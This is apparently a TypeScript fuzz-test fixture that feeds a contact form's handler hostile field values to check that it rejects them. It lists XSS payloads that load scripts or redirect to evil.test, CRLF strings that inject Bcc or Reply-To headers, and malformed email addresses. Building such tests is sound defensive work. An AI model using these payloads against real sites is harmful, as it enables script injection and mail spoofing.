/**
 * What an attacker types into a field: markup meant to run in the firm's mail client,
 * line breaks meant to start a header, addresses that are two addresses, values at and over
 * the field's limit, and anything JSON can carry that is not a string.
 */
import fc from 'fast-check';
import { FIELD_LIMITS, type ContactField } from '@site/core/contract';
import { kindOf } from '../contact-fields';

/** HTML meant to run or restyle the firm's mail client; most carry the probe attribute verify.ts looks for. */
const HTML_PAYLOADS = [
  '<script>alert("rb")</script>',
  '<ScRiPt src=//evil.test/x.js></ScRiPt>',
  '<img src=x onerror=alert(1) data-rb-probe="1">',
  '"><svg onload=alert(1) data-rb-probe="2">',
  "'><b data-rb-probe='3'>vet</b>",
  '</td></tr></table><a href="javascript:alert(1)" data-rb-probe="4">klik</a>',
  '<iframe src="https://evil.test" data-rb-probe="5"></iframe>',
  '<style data-rb-probe="6">body{display:none}</style>',
  '<!-- <script>x</script> -->',
  '&lt;script&gt;al&#101;rt(1)&lt;/script&gt;',
  '<p>',
  '< script >',
  '<meta http-equiv="refresh" content="0;url=https://evil.test" data-rb-probe="7">',
];

/** Attempts to end the header a field lands in (the subject, the Reply-To) and start another. */
const CRLF_PAYLOADS = [
  '\r\nBcc: victim@evil.test',
  '\nCc: victim@evil.test',
  '\rSubject: gespoofd',
  '\r\n\r\n<h1>nieuwe body</h1>',
  '\r\nContent-Type: text/html',
  '%0d%0aBcc:victim@evil.test',
  '\u2028Bcc: victim@evil.test',
  '\u0085Bcc: victim@evil.test',
  '\u0000\r\nBcc: victim@evil.test',
  '\r\nReply-To: attacker@evil.test',
];

/** Addresses that are two addresses, or an address plus a header, or not an address. */
const EMAIL_ATTACKS = [
  'bezoeker@example.nl\r\nBcc: victim@evil.test',
  'bezoeker@example.nl\nCc: victim@evil.test',
  'bezoeker@example.nl,victim@evil.test',
  'bezoeker@example.nl;victim@evil.test',
  'bezoeker@example.nl victim@evil.test',
  'Bezoeker <bezoeker@example.nl>',
  '"bezoeker\r\nBcc: x"@example.nl',
  '<script>alert(1)</script>@example.nl',
  'bezoeker@example.nl>',
  'bezoeker@example.nl%0d%0abcc:victim@evil.test',
  'bezoeker@example.nl\u2028Bcc: victim@evil.test',
  'bezoeker@@example.nl',
  '@example.nl',
  'bezoeker@',
  'a@b',
  'bëzoeker@example.nl',
  'bezoeker@xn--bcher-kva.example',
  `${'x'.repeat(65)}@example.nl`,
  `bezoeker@${'a'.repeat(250)}.nl`,
  ' bezoeker@example.nl ',
];

const PLAIN_TEXT = [
  'Jan de Vries',
  'Bakkerij Bos B.V.',
  '+31 6 12345678',
  'Graag een offerte.',
  'Ødegård & Zn.',
  'Zoë',
  '👩‍💼 Controller',
  'العربية',
  'x',
];

/** Anything JSON can carry that is not a string: the handler must refuse it, never crash on it. */
const nonString = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1e308, [], {}, [''], { toString: 'x' }, { __proto__: { polluted: true } }),
  fc.jsonValue({ maxDepth: 3 }),
);

/** One value for one field: usually an attack, sometimes harmless, sometimes at or over the limit. */
export function fieldValue(field: ContactField): fc.Arbitrary<unknown> {
  const limit = FIELD_LIMITS[field];
  const plain = fc.constantFrom(...PLAIN_TEXT);
  const wrap = (payload: fc.Arbitrary<string>) =>
    fc.tuple(plain, payload, fc.constantFrom('', ' einde', '\n')).map(([a, p, b]) => `${a}${p}${b}`);
  const common = [
    { arbitrary: plain as fc.Arbitrary<unknown>, weight: 3 },
    { arbitrary: wrap(fc.constantFrom(...HTML_PAYLOADS)), weight: 4 },
    { arbitrary: wrap(fc.constantFrom(...CRLF_PAYLOADS)), weight: 4 },
    { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 2 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 1 },
    { arbitrary: fc.constantFrom('\uD800', 'a\uDC00b', '\uFEFF', '\u202Eevil', '\u200B'), weight: 1 },
    { arbitrary: fc.constantFrom('x'.repeat(limit), 'x'.repeat(limit + 1), ` ${'y'.repeat(limit)} `, '😀'.repeat(limit)), weight: 1 },
    { arbitrary: fc.constantFrom('', ' ', '\t\r\n', '\u0000'), weight: 1 },
    { arbitrary: nonString, weight: 1 },
  ];
  if (kindOf(field) === 'email') {
    // A valid address most of the time, so the other fields' attacks get as far as the mail.
    return fc.oneof(
      { arbitrary: fc.constantFrom('bezoeker@example.nl', 'Info.Test+tag@sub.example.com'), weight: 8 },
      { arbitrary: fc.constantFrom(...EMAIL_ATTACKS), weight: 6 },
      ...common.slice(3),
    );
  }
  return fc.oneof(...common);
}
